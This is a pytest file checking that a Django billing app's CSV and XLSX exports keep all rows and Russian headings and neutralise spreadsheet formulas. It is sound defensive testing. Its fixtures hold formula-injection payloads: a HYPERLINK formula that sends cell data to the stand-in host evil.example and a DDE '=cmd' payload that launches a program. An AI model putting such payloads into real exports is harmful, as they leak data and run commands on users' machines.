"""CSV/XLSX exports of the lists: the rows, Russian headings, and no formula ever runs."""

import csv
import datetime
import io
from decimal import Decimal
from http import HTTPStatus

import openpyxl
import pytest
from django.urls import reverse

from tests.factories import (
    ArticleFactory,
    MeterFactory,
    PaymentFactory,
    PlotFactory,
    ReadingFactory,
    TariffFactory,
)

pytestmark = pytest.mark.django_db

EVIL_STREET = '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")'


def export(client, url_name: str, fmt: str, **params) -> list[list]:
    response = client.get(reverse(url_name), {"export": fmt, **params})
    assert response.status_code == HTTPStatus.OK
    assert "attachment" in response["Content-Disposition"]
    if fmt == "csv":
        text = b"".join(response.streaming_content).decode("utf-8")
        return list(csv.reader(io.StringIO(text)))
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


@pytest.fixture
def plots():
    PlotFactory(number=269, street="5", area=Decimal("7.20"), electrified=True, has_new_meter=True)
    PlotFactory(number=270, street=EVIL_STREET, area=Decimal("6.00"), electrified=False, has_new_meter=False)
    PlotFactory(number=271, street="+79991234567", owner_name="@admin", owner_phone="89991234567")


def test_plot_csv_has_every_row_and_neutralises_formulas(treasurer_client, plots):
    rows = export(treasurer_client, "billing_plot_modeladmin_index", "csv")
    header, *body = rows
    assert header[:6] == [
        "Номер участка",
        "Улица",
        "Площадь, соток",
        "Кадастровый номер",
        "Электрификация",
        "Новый счётчик",
    ]
    by_number = {row[0]: row for row in body}
    assert set(by_number) == {"269", "270", "271"}
    assert by_number["269"][1:6] == ["5", "7.20", "", "Да", "Да"]
    assert by_number["270"][1] == "'" + EVIL_STREET
    assert by_number["270"][4:6] == ["Нет", "Нет"]
    assert by_number["271"][1] == "'+79991234567"
    assert "'@admin" in by_number["271"]
    for row in body:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_plot_xlsx_has_every_row_and_no_formula(treasurer_client, plots):
    rows = export(treasurer_client, "billing_plot_modeladmin_index", "xlsx")
    header, *body = rows
    assert header[0] == "Номер участка"
    by_number = {row[0]: row for row in body}
    assert set(by_number) == {269, 270, 271}
    assert by_number[270][1] == "'" + EVIL_STREET
    assert by_number[269][2] == pytest.approx(7.2)
    for row in body:
        assert not any(isinstance(cell, str) and cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_export_follows_the_search(treasurer_client, plots):
    rows = export(treasurer_client, "billing_plot_modeladmin_index", "csv", q="269")
    assert [row[0] for row in rows[1:]] == ["269"]


def test_reading_export_keeps_zero_readings(treasurer_client):
    meter = MeterFactory(plot=PlotFactory(number=270), serial="=1+1")
    ReadingFactory(meter=meter, taken_on=datetime.date(2022, 5, 1), day=344, night=0)
    header, row = export(treasurer_client, "billing_reading_modeladmin_index", "csv")
    assert header == ["Участок", "Счётчик", "Дата", "День, кВт·ч", "Ночь, кВт·ч", "Сумма, кВт·ч", "Источник"]
    assert row == ["270", "'=1+1", "2022-05-01", "344", "0", "344", "загружено из файла"]


def test_reading_export_marks_estimates(treasurer_client):
    meter = MeterFactory(plot=PlotFactory(number=270))
    ReadingFactory(meter=meter, taken_on=datetime.date(2022, 5, 1), day=344, night=0, source="estimate")
    _, row = export(treasurer_client, "billing_reading_modeladmin_index", "csv")
    assert row[-1] == "расчётное"
    listing = treasurer_client.get(reverse("billing_reading_modeladmin_index"), {"source": "estimate"})
    assert "расчётное" in listing.content.decode()


def test_payment_export_by_month(treasurer_client):
    article = ArticleFactory(name="Членские взносы 2022")
    PaymentFactory(
        plot=PlotFactory(number=269),
        article=article,
        paid_on=datetime.date(2022, 4, 10),
        amount=Decimal("7200.00"),
        document="-п/п 15",
    )
    PaymentFactory(plot=PlotFactory(number=270), article=article, paid_on=datetime.date(2022, 5, 1))
    rows = export(treasurer_client, "billing_payment_modeladmin_index", "xlsx", month="2022-04")
    assert rows == [
        ["Участок", "Статья", "Дата оплаты", "Сумма, ₽", "Документ"],
        [269, "Членские взносы 2022", datetime.date(2022, 4, 10), 7200, "'-п/п 15"],
    ]


def test_tariff_snippet_export(treasurer_client):
    TariffFactory(valid_from=datetime.date(2022, 1, 1))
    rows = export(treasurer_client, "wagtailsnippets_billing_tariff:list", "csv")
    assert rows == [
        ["Действует с", "Однотарифный, ₽/кВт·ч", "День, ₽/кВт·ч", "Ночь, ₽/кВт·ч"],
        ["2022-01-01", "5.93", "6.82", "2.65"],
    ]


def test_article_snippet_export_neutralises_names(treasurer_client):
    ArticleFactory(name="=cmd|' /C calc'!A0", year=2022)
    rows = export(treasurer_client, "wagtailsnippets_billing_article:list", "csv")
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    assert rows[1][1] == "Прочее"
